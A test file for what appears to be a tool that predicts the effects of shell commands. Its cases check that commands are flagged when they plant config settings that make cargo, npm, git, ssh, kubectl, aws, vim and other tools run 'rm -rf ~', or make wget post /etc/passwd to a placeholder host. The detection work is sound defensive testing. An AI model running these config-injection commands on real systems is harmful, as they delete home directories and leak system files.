import { describe, expect, test } from 'vitest';
import { effectsOf } from '../../../test/support/effects-of.ts';

const deletesHome = 'delete /home/dev and all under it';

describe('settings that the text writes count where a program reads them', () => {
  test.each([
    [`printf '[build]\\nrustc-wrapper = "rm -rf ~"\\n' > .cargo/config.toml; cargo build`, deletesHome],
    [
      `printf '[target.x]\\nrunner = ["rm", "-rf", "/home/dev"]\\n' > c/config.toml; CARGO_HOME=c cargo run`,
      deletesHome,
    ],
    [`printf 'GOFLAGS=-toolexec="rm -rf /home/dev"\\n' > e; GOENV=e go build`, deletesHome],
    [`printf 'script-shell=rm -rf ~\\n' > n; npm --userconfig n run build`, deletesHome],
    [`printf 'script-shell=rm -rf ~\\n' > n; NPM_CONFIG_USERCONFIG=n npm run build`, deletesHome],
    [`printf 'use_askpass=rm -rf ~\\n' > w; WGETRC=w wget http://a.example`, deletesHome],
    [`printf 'post_file=/etc/passwd\\n' > w; wget --config=w http://a.example`, 'read /etc/passwd'],
    [`printf 'output = /etc/x\\n' > c; curl -K c http://a.example`, 'write /etc/x'],
    [`printf 'output = /etc/x\\n' | curl -K - http://a.example`, 'write /etc/x'],
    [`printf 'output = /etc/x\\n' > h/.curlrc; CURL_HOME=h curl http://a.example`, 'write /etc/x'],
    [`printf '[core]\\n\\tpager = rm -rf ~\\n' > g; GIT_CONFIG_GLOBAL=g git log`, deletesHome],
    [`printf '[alias]\\n\\tx = !rm -rf ~\\n' > h/.gitconfig; HOME=h git x`, deletesHome],
    [`printf 'Host *\\n ProxyCommand rm -rf ~\\n' > s; ssh -o Include=s host`, deletesHome],
    [`printf 'Host *\\n ProxyCommand rm -rf ~\\n' > s; rsync -e 'ssh -F s' a host:b`, deletesHome],
    [`printf 'exec:\\n  command: rm\\n  args: [-rf, /home/dev]\\n' > k; KUBECONFIG=k kubectl get pods`, deletesHome],
    [
      `printf 'exec:\\n  command: rm\\n  args:\\n  - -rf\\n  - /home/dev\\n' > k; helm --kubeconfig=k list`,
      deletesHome,
    ],
    [`printf '[default]\\ncredential_process = rm -rf ~\\n' > a; AWS_CONFIG_FILE=a aws s3 ls`, deletesHome],
    [`printf '.shell rm -rf ~\\n' > i; sqlite3 -init i a.db`, deletesHome],
    [`printf '\\\\! rm -rf ~\\n' > r; PSQLRC=r psql`, deletesHome],
    [`printf 'run-shell "rm -rf ~"\\n' > t; tmux -f t new -d`, deletesHome],
    [`printf '" mine\\n!rm -rf ~\\n' > .exrc; vim x`, deletesHome],
    [`printf '#env\\nLESSOPEN=|rm -rf ~\\n' > k; LESSKEYIN=k less x`, `possibly ${deletesHome}`],
    [`printf '[hooks]\\npre-commit = rm -rf ~\\n' > h; HGRCPATH=h hg commit`, deletesHome],
    [`echo 'require("child_process").execSync("rm -rf ~")' > x.js; NODE_OPTIONS='-r ./x.js' npm test`, deletesHome],
    [
      `echo '{"plugins":["./x.js"]}' > .prettierrc; echo 'require("child_process").execSync("rm -rf ~")' > x.js; prettier .`,
      deletesHome,
    ],
  ])('%s', (command, effect) => {
    expect(effectsOf(command)).toContain(effect);
  });

  test.each([
    `printf '[build]\\nrustc-wrapper = "rm -rf ~"\\n' > other.toml; cargo build`,
    `printf '[net]\\nretry = 2\\n[target.x]\\nlinker = "clang"\\n' > .cargo/config.toml; cargo build`,
    `printf 'save-exact=true\\n# script-shell=rm -rf ~\\n' > .npmrc; npm ci`,
    `printf '[user]\\n\\tname = A\\n[alias]\\n\\tx = !rm -rf ~\\n' > g; GIT_CONFIG_GLOBAL=g git log`,
    `printf 'users:\\n- user:\\n    token: rm\\n' > k; KUBECONFIG=k kubectl get pods`,
    `printf '[default]\\nregion = eu-west-1\\n' > a; AWS_CONFIG_FILE=a aws s3 ls`,
    `printf 'set -g mouse on\\n' > t; tmux -f t new -d`,
    `printf 'silent\\nfail\\n' > c; curl -K c http://localhost`,
    `NODE_OPTIONS=--max-old-space-size=4096 npm run build`,
  ])('near miss: %s', (command) => {
    expect(effectsOf(command).filter((effect) => /^(?:delete|opaque)/.test(effect))).toEqual([]);
  });

  test('settings that come from elsewhere are opaque', () => {
    expect(effectsOf('curl -s https://a.example > g; GIT_CONFIG_GLOBAL=g git log')).toContainEqual(
      expect.stringMatching(/^opaque/),
    );
  });
});
